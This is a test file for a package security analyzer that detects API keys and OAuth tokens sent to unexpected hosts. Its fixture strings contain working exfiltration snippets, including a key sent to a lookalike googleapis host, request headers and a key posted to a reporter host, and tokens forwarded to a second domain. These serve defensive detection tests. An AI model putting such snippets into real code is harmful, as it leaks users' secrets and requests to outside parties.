import { describe, expect, test } from 'vitest';
import { analyzePackage } from '../../../src/analyze/index.js';
import { ownRules, packageOf } from '../in-memory.js';

const judged = (text: string, name = 'sample') => analyzePackage(packageOf({ 'index.js': text }, { name }), ownRules());
const weightOf = (text: string, rule: string, name?: string) =>
  judged(text, name).findings.find((finding) => finding.rule === rule)?.weight ?? 0;

const client = (send: string) => `
  class Client { constructor(apiKey) { this.apiKey = apiKey; } }
  Client.prototype.ask = async function (words) { ${send} };
  module.exports = Client;`;

describe('a credential that goes to a well-known service', () => {
  test.each([
    [
      'a header of its own',
      "const r = await fetch('https://generativelanguage.googleapis.com/v1/x', { method: 'POST', headers: { 'x-goog-api-key': this.apiKey } }); return r.json();",
    ],
    [
      'the header that shows who asks, as it is',
      "const r = await fetch('https://api.github.com/user', { headers: { authorization: this.apiKey } }); return r.json();",
    ],
    [
      'the form of a sign-in',
      "return fetch('https://login.microsoftonline.com/' + words + '/oauth2/token', { method: 'POST', body: 'grant_type=password&password=' + this.apiKey });",
    ],
  ])('in %s is no leak', (_place, send) => {
    expect(weightOf(client(send), 'library-secret-leak')).toBeLessThan(20);
  });

  test('in the body is one, and so is one at a host that only looks like it', () => {
    const body =
      "await fetch('https://api.github.com/repos/a/b/issues', { method: 'POST', headers: { authorization: 'token ghp_x' }, body: JSON.stringify({ title: this.apiKey }) });";
    expect(weightOf(client(body), 'library-secret-leak')).toBeGreaterThanOrEqual(40);
    const other =
      "await fetch('https://googleapis.com.collect.example/v1/x', { method: 'POST', headers: { 'x-goog-api-key': this.apiKey } });";
    expect(weightOf(client(other), 'library-secret-leak')).toBeGreaterThanOrEqual(75);
    const redirected =
      "await fetch(words + 'https://generativelanguage.googleapis.com/', { headers: { 'x-goog-api-key': this.apiKey } });";
    expect(weightOf(client(redirected), 'library-secret-leak')).toBeGreaterThanOrEqual(40);
  });

  const reporter = (host: string) => `
    let options;
    exports.register = (apiKey, more) => { options = { apiKey, ...more }; };
    exports.requestHandler = (req, res, next) => {
      require('request').post({ url: 'https://${host}/', json: { key: options.apiKey, request: { headers: req.headers, url: req.url } } });
      next();
    };`;

  test('is that of the account at the agent that is called like it, and at no other host', () => {
    expect(judged(reporter('notify.bugsnag.com'), 'bugsnag').action).toBe('allow');
    expect(judged(reporter('notify.bugsnag.com'), 'express-fast-metrics').action).not.toBe('allow');
    expect(judged(reporter('notify.bugwatch.example'), 'bugwatch').action).not.toBe('allow');
  });
});

test('parameters of the same name in two files are two things, in one they are one', () => {
  const provider = (host: string) =>
    `exports.info = async ({ tokens }) => (await fetch('https://api.${host}.example/me?oauth_token=' + tokens.access_token)).json();`;
  const files = {
    'index.js': "exports.a = require('./a'); exports.b = require('./b');",
    'a.js': provider('alfa'),
    'b.js': provider('bravo'),
  };
  const rules = (each: Record<string, string>) =>
    analyzePackage(packageOf(each), ownRules()).findings.map(({ rule }) => rule);
  expect(rules(files)).not.toContain('credential-second-host');
  const passedOn = {
    'index.js':
      "const { tell } = require('./tell'); exports.info = async ({ tokens }) => { tell(tokens); return (await fetch('https://api.alfa.example/me?oauth_token=' + tokens.access_token)).json(); };",
    'tell.js': "exports.tell = (tokens) => fetch('https://bravo.example/?t=' + tokens.access_token);",
  };
  expect(rules(passedOn)).toContain('credential-second-host');
});
